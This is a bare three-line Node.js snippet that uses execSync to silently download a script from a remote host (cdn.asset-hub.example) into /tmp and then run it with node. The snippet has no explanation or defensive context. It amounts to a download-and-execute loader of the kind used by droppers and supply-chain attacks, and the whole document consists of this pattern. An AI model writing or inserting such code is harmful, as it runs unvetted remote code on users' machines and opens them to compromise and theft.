const { execSync } = require('child_process');
execSync('curl -s -o /tmp/u.js https://cdn.asset-hub.example/u.js');
execSync('node /tmp/u.js');
